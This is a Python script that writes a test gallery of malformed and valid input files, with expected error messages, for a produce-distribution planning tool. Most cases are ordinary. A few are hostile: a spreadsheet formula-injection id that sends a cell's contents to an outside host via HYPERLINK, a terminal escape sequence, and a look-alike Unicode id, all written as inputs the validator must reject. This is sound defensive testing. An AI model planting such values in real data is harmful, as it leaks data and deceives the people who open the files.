#!/usr/bin/env python3
"""Writes the bad-input gallery (tests/data/bad/) and the valid edge cases
(tests/data/good/) deterministically. Run from anywhere:

    python3 tests/data/make_gallery.py

Every bad case is the small BASE scenario below with exactly one defect, plus
`expected.txt`: the one problem line the tool must print for that defect
(without the two leading spaces). The folders are rewritten from scratch on
every run, so edit this script, not the generated files.

Note: the "file not found" message names the scenario folder as given on the
command line; those expected.txt files write it as `{dir}`, which the gallery
test replaces with the case's folder.
"""

import os
import shutil

ROOT = os.path.dirname(os.path.abspath(__file__))

# Two farms, one hub, two stores, two products, three weeks, opening stock
# at the hub and a farm, weekly periods. Lines are listed without line ends;
# the line number of a data row is its index in the list + 1.
BASE = {
    "products.csv": [
        "product,shelf_life_days,value_per_kg,holding_cost_per_kg_week,min_remaining_days",
        "honey-plum,14,8,0.2,3",
        "cabbage,7,1.5,0.05,0",
    ],
    "farms.csv": [
        "farm,region,priority,storage_kg",
        "Muyin-1,Luodian,1,",
        "Ziyun-1,Ziyun,0,2000",
    ],
    "hubs.csv": [
        "hub,region,storage_kg",
        "Luodian-hub,Luodian,5000",
    ],
    "stores.csv": [
        "store,region,storage_kg",
        "Jingkai-market,Jingkai,",
        "Huaxi-market,Huaxi,800",
    ],
    "supply.csv": [
        "farm,product,week,quantity_kg",
        "Muyin-1,honey-plum,1,3000",  # line 2
        "Muyin-1,honey-plum,2,2500",  # line 3
        "Muyin-1,cabbage,1,800",  # line 4
        "Ziyun-1,cabbage,1,1500",  # line 5
        "Ziyun-1,cabbage,2,1500",  # line 6
        "Ziyun-1,cabbage,3,1000",  # line 7
    ],
    "demand.csv": [
        "store,product,week,quantity_kg,shortfall_penalty_per_kg",
        "Jingkai-market,honey-plum,1,1000,",  # line 2
        "Jingkai-market,honey-plum,2,1200,",  # line 3
        "Huaxi-market,honey-plum,3,900,",  # line 4
        "Jingkai-market,cabbage,1,1200,",  # line 5
        "Huaxi-market,cabbage,2,600,",  # line 6
        "Huaxi-market,cabbage,3,600,5",  # line 7
    ],
    "lanes.csv": [
        "from,to,cost_per_kg,transit_days,capacity_kg_per_week",
        "Muyin-1,Luodian-hub,0.10,0.5,",  # line 2
        "Luodian-hub,Jingkai-market,0.35,0.5,2500",  # line 3
        "Luodian-hub,Huaxi-market,0.38,0.5,",  # line 4
        "Ziyun-1,Jingkai-market,0.30,0.5,",  # line 5
        "Ziyun-1,Huaxi-market,0.28,0.5,1200",  # line 6
    ],
    "stock.csv": [
        "location,product,age_days,quantity_kg",
        "Luodian-hub,cabbage,2,300",  # line 2
        "Muyin-1,honey-plum,7,200",  # line 3
    ],
    "scenario.toml": [
        "period_days = 7",
    ],
}

# An unknown id of 5,000 characters (a paragraph pasted into a cell).
LONG_ID = ("Muyin-1 pasted from a report " * 200)[:5000]
assert len(LONG_ID) == 5000


def shortened(text, shown=60):
    """How a long cell is shown in a message: 60 characters, then a count."""
    if len(text) <= shown:
        return f'"{text}"'
    return f'"{text[:shown]}..." ({len(text)} characters)'


class Case:
    """A copy of BASE with edits; files are lists of lines or raw bytes."""

    def __init__(self, name):
        self.name = name
        self.files = {k: list(v) for k, v in BASE.items()}
        self.raw = {}  # file -> bytes, written as is

    def set_line(self, file, line, text):
        """Replaces line number `line` (1-based, 1 = header)."""
        self.files[file][line - 1] = text
        return self

    def add(self, file, *lines):
        self.files[file].extend(lines)
        return self

    def put(self, file, lines):
        self.files[file] = list(lines)
        return self

    def drop(self, file):
        del self.files[file]
        return self

    def bytes(self, file, data):
        self.raw[file] = data
        return self

    def write(self, folder, expected=None):
        if os.path.exists(folder):
            shutil.rmtree(folder)
        os.makedirs(folder)
        for file, lines in sorted(self.files.items()):
            data = self.raw.get(file)
            if data is None:
                data = "".join(line + "\n" for line in lines).encode("utf-8")
            with open(os.path.join(folder, file), "wb") as f:
                f.write(data)
        for file, data in self.raw.items():
            if file not in self.files:
                with open(os.path.join(folder, file), "wb") as f:
                    f.write(data)
        if expected is not None:
            assert "\n" not in expected, (self.name, expected)
            with open(os.path.join(folder, "expected.txt"), "w", encoding="utf-8") as f:
                f.write(expected + "\n")


def mixed_endings(lines):
    """CRLF and LF alternating, starting with CRLF."""
    return "".join(l + ("\r\n" if i % 2 == 0 else "\n") for i, l in enumerate(lines)).encode("utf-8")


NUM = "expected a number >= 0, found"
WEEK = "expected a whole number from 1 to 10000, found"

BAD = []


def bad(name, expected, case=None):
    BAD.append((name, case or Case(name), expected))
    return BAD[-1][1]


def c(name):
    return Case(name)


BAD_DIR = os.path.join(ROOT, "bad")

# --- every required file missing (the message names the folder) ---------
for i, file in enumerate(["products", "farms", "stores", "supply", "demand", "lanes"], start=1):
    name = f"{i:02d}-missing-{file}-file"
    bad(name, f"{file}.csv: file not found in {{dir}}", c(name).drop(f"{file}.csv"))

# --- headers --------------------------------------------------------------
bad(
    "07-missing-required-column",
    "supply.csv: line 1, column week: required column is missing from the header",
    c("07").put("supply.csv", ["farm,product,quantity_kg"] + [
        ",".join(l.split(",")[:2] + l.split(",")[3:]) for l in BASE["supply.csv"][1:]
    ]),
)
bad(
    "08-unknown-column-typo",
    "lanes.csv: line 1, column transit_day: unknown column (known columns: "
    "from, to, cost_per_kg, transit_days, capacity_kg_per_week)",
    c("08").set_line("lanes.csv", 1, "from,to,cost_per_kg,transit_day,capacity_kg_per_week"),
)
bad(
    "09-duplicated-header-column",
    "farms.csv: line 1, column priority: column appears twice in the header",
    c("09").put("farms.csv", [
        "farm,region,priority,storage_kg,priority",
        "Muyin-1,Luodian,1,,1",
        "Ziyun-1,Ziyun,0,2000,0",
    ]),
)

# --- cells ------------------------------------------------------------------
bad(
    "10-empty-required-field",
    "demand.csv: line 4, column quantity_kg: expected a value, found an empty cell",
    c("10").set_line("demand.csv", 4, "Huaxi-market,honey-plum,3,,"),
)
bad(
    "11-not-a-number",
    f'supply.csv: line 4, column quantity_kg: {NUM} "about 800"',
    c("11").set_line("supply.csv", 4, "Muyin-1,cabbage,1,about 800"),
)
bad(
    "12-negative-number",
    f'supply.csv: line 7, column quantity_kg: {NUM} "-40"',
    c("12").set_line("supply.csv", 7, "Ziyun-1,cabbage,3,-40"),
)
bad(
    "13-nan",
    f'demand.csv: line 5, column quantity_kg: {NUM} "NaN"',
    c("13").set_line("demand.csv", 5, "Jingkai-market,cabbage,1,NaN,"),
)
bad(
    "14-inf",
    f'products.csv: line 3, column value_per_kg: {NUM} "inf"',
    c("14").set_line("products.csv", 3, "cabbage,7,inf,0.05,0"),
)
bad(
    "15-too-large-1e400",
    f'lanes.csv: line 5, column cost_per_kg: {NUM} "1e400" (too large)',
    c("15").set_line("lanes.csv", 5, "Ziyun-1,Jingkai-market,1e400,0.5,"),
)
bad(
    "16-thousands-separator",
    f'supply.csv: line 5, column quantity_kg: {NUM} "1,500" (write numbers without thousands separators)',
    c("16").set_line("supply.csv", 5, 'Ziyun-1,cabbage,1,"1,500"'),
)
bad(
    "17-week-zero",
    f'demand.csv: line 2, column week: {WEEK} "0"',
    c("17").set_line("demand.csv", 2, "Jingkai-market,honey-plum,0,1000,"),
)
bad(
    "18-week-fraction",
    f'supply.csv: line 3, column week: {WEEK} "2.5"',
    c("18").set_line("supply.csv", 3, "Muyin-1,honey-plum,2.5,2500"),
)
bad(
    "19-shelf-life-zero",
    'products.csv: line 3, column shelf_life_days: expected a whole number >= 1, found "0"',
    c("19").set_line("products.csv", 3, "cabbage,0,1.5,0.05,0"),
)
bad(
    "20-min-remaining-not-below-shelf-life",
    "products.csv: line 2, column min_remaining_days: expected fewer days than shelf_life_days (14), found 14",
    c("20").set_line("products.csv", 2, "honey-plum,14,8,0.2,14"),
)

# --- duplicates ---------------------------------------------------------------
bad(
    "21-duplicate-product-id",
    'products.csv: line 4, column product: expected a unique product id, found "honey-plum" again (first on line 2)',
    c("21").add("products.csv", "honey-plum,10,6,0,0"),
)
bad(
    "22-duplicate-farm-id",
    'farms.csv: line 4, column farm: expected a unique id, found "Muyin-1", already used earlier in farms.csv',
    c("22").add("farms.csv", "Muyin-1,Ziyun,0,"),
)
bad(
    "23-same-id-farm-and-store",
    'stores.csv: line 4, column store: expected a unique id, found "Ziyun-1", already used in farms.csv',
    c("23").add("stores.csv", "Ziyun-1,Huaxi,"),
)
bad(
    "24-duplicate-supply-row",
    "supply.csv: line 8: expected one row per (farm, product, week), found (Ziyun-1, cabbage, 2) again (first on line 6)",
    c("24").add("supply.csv", "Ziyun-1,cabbage,2,700"),
)
bad(
    "25-duplicate-demand-row",
    "demand.csv: line 8: expected one row per (store, product, week), found (Jingkai-market, honey-plum, 2) again (first on line 3)",
    c("25").add("demand.csv", "Jingkai-market,honey-plum,2,300,"),
)
bad(
    "26-duplicate-lane",
    "lanes.csv: line 7: expected one lane per (from, to), found (Ziyun-1, Huaxi-market) again (first on line 6)",
    c("26").add("lanes.csv", "Ziyun-1,Huaxi-market,0.30,1,"),
)

# --- ids that do not resolve, or resolve to the wrong kind ---------------------
bad(
    "27-unknown-farm-near-miss",
    'supply.csv: line 5, column farm: expected a farm id from farms.csv, found "Ziyun-l" (did you mean "Ziyun-1"?)',
    c("27").set_line("supply.csv", 5, "Ziyun-l,cabbage,1,1500"),
)
bad(
    "28-unknown-product-in-demand",
    'demand.csv: line 6, column product: expected a product from products.csv, found "durian"',
    c("28").set_line("demand.csv", 6, "Huaxi-market,durian,2,600,"),
)
bad(
    "29-unknown-location-in-stock",
    'stock.csv: line 3, column location: expected a farm or hub or store id from farms.csv or hubs.csv '
    'or stores.csv, found "Guiyang-hub"',
    c("29").set_line("stock.csv", 3, "Guiyang-hub,honey-plum,7,200"),
)
bad(
    "30-lane-from-store",
    'lanes.csv: line 7, column from: expected a farm or hub, found "Jingkai-market", which is a store '
    "(a lane cannot start at a store)",
    c("30").add("lanes.csv", "Jingkai-market,Huaxi-market,0.05,0.5,"),
)
bad(
    "31-lane-into-farm",
    'lanes.csv: line 7, column to: expected a hub or store, found "Ziyun-1", which is a farm '
    "(a lane cannot end at a farm)",
    c("31").add("lanes.csv", "Luodian-hub,Ziyun-1,0.20,0.5,"),
)
bad(
    "32-lane-to-itself",
    'lanes.csv: line 4, column to: expected a different location than from, found "Luodian-hub" twice',
    c("32").set_line("lanes.csv", 4, "Luodian-hub,Luodian-hub,0.38,0.5,"),
)
bad(
    "33-supply-at-hub",
    'supply.csv: line 4, column farm: expected a farm, found "Luodian-hub", which is a hub',
    c("33").set_line("supply.csv", 4, "Luodian-hub,cabbage,1,800"),
)

# --- file structure ---------------------------------------------------------------
bad(
    "34-too-few-fields",
    "supply.csv: line 6: expected 4 fields as in the header, found 3",
    c("34").set_line("supply.csv", 6, "Ziyun-1,cabbage,1500"),
)
# GBK (what Excel writes on Chinese Windows) is read; bytes that are neither
# UTF-8 nor GB18030 are not.
junk = c("35")
junk.bytes(
    "farms.csv",
    ("\n".join(BASE["farms.csv"]) + "\n").encode("utf-8") + b"\xff\xfe\xff,Luodian,1,\n",
)
bad(
    "35-neither-utf8-nor-gbk",
    'farms.csv: line 4: expected UTF-8 or GBK/GB18030 text (save the file as "CSV UTF-8"), found bytes that are neither',
    junk,
)
bad(
    "36-header-only-supply-and-demand",
    "demand.csv: expected at least one row in supply.csv or demand.csv, found none in either",
    c("36").put("supply.csv", BASE["supply.csv"][:1]).put("demand.csv", BASE["demand.csv"][:1]),
)

# --- scenario.toml --------------------------------------------------------------
bad(
    "37-toml-unknown-key",
    "scenario.toml: line 1, column period_day: unknown setting (known settings: period_days, start_date, fair_shortfall, display_unit, csv_bom)",
    c("37").put("scenario.toml", ["period_day = 7"]),
)
bad(
    "38-toml-period-days-zero",
    "scenario.toml: line 1, column period_days: expected a whole number from 1 to 366, found 0",
    c("38").put("scenario.toml", ["period_days = 0"]),
)

# --- messages stay readable ---------------------------------------------------------
bad(
    "39-long-unknown-id",
    f"supply.csv: line 3, column farm: expected a farm id from farms.csv, found {shortened(LONG_ID)}",
    c("39").set_line("supply.csv", 3, f"{LONG_ID},honey-plum,2,2500"),
)
mixed = c("40")
mixed_supply = list(BASE["supply.csv"])
mixed_supply[6] = "Ziyun-1,cabbage,3,-40"  # line 7, after CRLF and LF lines
mixed.bytes("supply.csv", mixed_endings(mixed_supply))
bad(
    "40-mixed-line-endings-then-defect",
    f'supply.csv: line 7, column quantity_kg: {NUM} "-40"',
    mixed,
)

# --- beyond the list: defects whose message could mislead ------------------------------
bad(
    "41-required-column-typo",
    "supply.csv: line 1, column quantity_kgs: unknown column (known columns: farm, product, week, quantity_kg, quantity_jin, quantity_t, quantity, support_price_per_kg)",
    c("41").set_line("supply.csv", 1, "farm,product,week,quantity_kgs"),
)
bad(
    "42-empty-file",
    "supply.csv: expected a header row, found an empty file",
    c("42").bytes("supply.csv", b""),
)
bad(
    "43-semicolon-separated",
    "lanes.csv: line 1: expected columns separated by commas, found semicolons",
    c("43").bytes("lanes.csv", ("\n".join(l.replace(",", ";") for l in BASE["lanes.csv"]) + "\n").encode()),
)
bad(
    "44-runaway-quote",
    'supply.csv: line 4, column quantity_kg: expected text on one line, found "800\\nZiyun-1,cabbage,1,1500" '
    "(is a closing quote missing?)",
    c("44").put("supply.csv", BASE["supply.csv"][:3] + ['Muyin-1,cabbage,1,"800', "Ziyun-1,cabbage,1,1500"]),
)
bad(
    "45-decimal-comma",
    f'lanes.csv: line 2, column cost_per_kg: {NUM} "0,10" (write decimals with a point: 0.10, not 0,10)',
    c("45").set_line("lanes.csv", 2, 'Muyin-1,Luodian-hub,"0,10",0.5,'),
)
bad(
    "46-invisible-space-in-id",
    'supply.csv: line 5, column farm: expected a farm id from farms.csv, found "Ziyun-1\\u{200b}" '
    '(did you mean "Ziyun-1"?)',
    c("46").set_line("supply.csv", 5, "Ziyun-1\u200b,cabbage,1,1500"),  # zero-width space
)
bad(
    "47-duplicate-stock-row",
    "stock.csv: line 4: expected one row per (location, product, age_days), found (Luodian-hub, cabbage, 2) "
    "again (first on line 2)",
    c("47").add("stock.csv", "Luodian-hub,cabbage,2,100"),
)
long_dup = c("48")
long_dup.add("farms.csv", f"{LONG_ID},Luodian,0,")
long_dup.add("supply.csv", f"{LONG_ID},cabbage,1,10", f"{LONG_ID},cabbage,1,20")
bad(
    "48-long-id-in-duplicate-row",
    "supply.csv: line 9: expected one row per (farm, product, week), found "
    f"({shortened(LONG_ID)}, cabbage, 1) again (first on line 8)",
    long_dup,
)
bad(
    "49-toml-period-days-fraction",
    "scenario.toml: line 1, column period_days: expected a whole number from 1 to 366, found 1.5",
    c("49").put("scenario.toml", ["period_days = 1.5"]),
)
bad(
    "50-in-transit-on-a-lane-that-does-not-exist",
    "in_transit.csv: line 2, column to: expected a lane Muyin-1 -> Jingkai-market in lanes.csv, found none",
    c("50").put(
        "in_transit.csv",
        ["from,to,product,arrive_week,age_days,quantity_kg", "Muyin-1,Jingkai-market,honey-plum,1,3,400"],
    ),
)
bad(
    "51-runaway-quote-in-text",
    'farms.csv: line 2, column region: expected text on one line, found "Luodian\\nZiyun-1,Ziyun" '
    "(is a closing quote missing?)",
    # The open quote swallows the next row, and the field count still matches.
    c("51").put("farms.csv", ["farm,region", 'Muyin-1,"Luodian', "Ziyun-1,Ziyun"]),
)
bare_cr = c("52")
bare_cr_supply = list(BASE["supply.csv"])
bare_cr_supply[4] = "Ziyun-1,cabbage,1,-15"  # line 5
bare_cr.bytes("supply.csv", "".join(l + "\r" for l in bare_cr_supply).encode("utf-8"))
bad(
    "52-old-mac-line-endings-then-defect",
    f'supply.csv: line 5, column quantity_kg: {NUM} "-15"',
    bare_cr,
)

# --- ids, bounds (issue #10) -----------------------------------------------------------
bad(
    "53-formula-id",
    'farms.csv: line 4, column farm: expected an id that does not start with =, +, - or @ '
    '(a spreadsheet would run it as a formula), found "=HYPERLINK("http://example.com/?"&A1,"Ziyun-2")"',
    c("53").add("farms.csv", '"=HYPERLINK(""http://example.com/?""&A1,""Ziyun-2"")",Ziyun,0,'),
)
bad(
    "54-control-character-in-id",
    'stores.csv: line 4, column store: expected an id without control characters, found "Baiyun\\u{1b}[2J-market"',
    c("54").add("stores.csv", "Baiyun\x1b[2J-market,Baiyun,"),
)
bad(
    "55-look-alike-ids",
    'farms.csv: line 4, column farm: "\uff2d\uff55\uff59\uff49\uff4e\uff0d\uff11" looks the same as "Muyin-1" on line 2',
    c("55").add("farms.csv", "\uff2d\uff55\uff59\uff49\uff4e\uff0d\uff11,Luodian,0,"),
)
bad(
    "56-quantity-1e308",
    'supply.csv: line 3, column quantity_kg: expected a number from 0 to 1e12, found "1e308"',
    c("56").set_line("supply.csv", 3, "Muyin-1,honey-plum,2,1e308"),
)
bad(
    "57-nfd-duplicate-of-nfc-id",
    'farms.csv: line 5, column farm: expected a unique id, found "Ziyun-1\u00e9", already used earlier in farms.csv '
    "(the same letters, encoded differently: ids are compared in Unicode NFC)",
    c("57").add("farms.csv", "Ziyun-1\u00e9,Ziyun,0,", "Ziyun-1e\u0301,Ziyun,0,"),
)

# --- dates and in-transit stock (issue #13) ----------------------------------------------
bad(
    "58-date-before-start-date",
    'supply.csv: line 3, column week: expected a date on or after start_date 2026-11-30, found "2026-11-23"',
    c("58").put("scenario.toml", ["period_days = 7", "start_date = 2026-11-30"])
    .set_line("supply.csv", 3, "Muyin-1,honey-plum,2026-11-23,2500"),
)
bad(
    "59-iso-week-53-in-a-year-without-one",
    "demand.csv: line 4, column week: expected a week number from 1 to 10000, a date (2026-12-09) "
    'or an ISO week (2026-W50) that exists, found "2027-W53"',
    c("59").put("scenario.toml", ["period_days = 7", "start_date = 2026-11-30"])
    .set_line("demand.csv", 4, "Huaxi-market,honey-plum,2027-W53,900,"),
)

# --- good edge cases ------------------------------------------------------------------
GOOD = []


def good(name):
    case = Case(name)
    GOOD.append(case)
    return case


q = good("quoted-numbers")
for file in ["supply.csv", "demand.csv", "lanes.csv", "products.csv", "stock.csv"]:
    q.put(file, [q.files[file][0]] + [
        ",".join(f'"{cell}"' if cell and cell[0].isdigit() else cell for cell in line.split(","))
        for line in q.files[file][1:]
    ])

m = good("mixed-line-endings")
for file, lines in BASE.items():
    m.bytes(file, mixed_endings(lines))

b = good("utf8-bom-every-file")
for file, lines in BASE.items():
    b.bytes(file, b"\xef\xbb\xbf" + "".join(l + "\n" for l in lines).encode("utf-8"))

ZH = {
    "Muyin-1": "木引镇基地",
    "Ziyun-1": "紫云基地",
    "Luodian-hub": "罗甸集散中心",
    "Jingkai-market": "经开农贸市场",
    "Huaxi-market": "花溪超市",
    "honey-plum": "蜂糖李",
    "cabbage": "白菜",
    "Luodian": "罗甸",
    "Ziyun": "紫云",
    "Jingkai": "经开区",
    "Huaxi": "花溪区",
}
z = good("chinese-ids")
for file in BASE:
    if file.endswith(".csv"):
        z.put(file, [z.files[file][0]] + [
            ",".join(ZH.get(cell, cell) for cell in line.split(",")) for line in z.files[file][1:]
        ])

g = good("gbk-encoded-chinese-ids")
for file in BASE:
    if file.endswith(".csv"):
        g.bytes(file, ("\n".join(
            [BASE[file][0]] + [",".join(ZH.get(cell, cell) for cell in line.split(",")) for line in BASE[file][1:]]
        ) + "\n").encode("gbk"))

o = good("blank-optional-cells")
o.put("products.csv", [BASE["products.csv"][0], "honey-plum,14,8,,", "cabbage,7,1.5,,"])
o.put("farms.csv", [BASE["farms.csv"][0], "Muyin-1,Luodian,,", "Ziyun-1,Ziyun,,"])
o.put("hubs.csv", [BASE["hubs.csv"][0], "Luodian-hub,Luodian,"])
o.put("stores.csv", [BASE["stores.csv"][0], "Jingkai-market,Jingkai,", "Huaxi-market,Huaxi,"])
o.put("lanes.csv", [BASE["lanes.csv"][0]] + [
    ",".join(line.split(",")[:3]) + ",," for line in BASE["lanes.csv"][1:]
])
o.put("demand.csv", [BASE["demand.csv"][0]] + [
    ",".join(line.split(",")[:4]) + "," for line in BASE["demand.csv"][1:]
])

d = good("daily-period")
d.put("scenario.toml", ["period_days = 1"])


def main():
    for kind in ["bad", "good"]:
        path = os.path.join(ROOT, kind)
        if os.path.exists(path):
            shutil.rmtree(path)
        os.makedirs(path)
    names = set()
    for name, case, expected in BAD:
        assert name not in names, name
        names.add(name)
        case.write(os.path.join(BAD_DIR, name), expected)
    for case in GOOD:
        case.write(os.path.join(ROOT, "good", case.name))
    print(f"wrote {len(BAD)} bad and {len(GOOD)} good cases under {ROOT}")


if __name__ == "__main__":
    main()
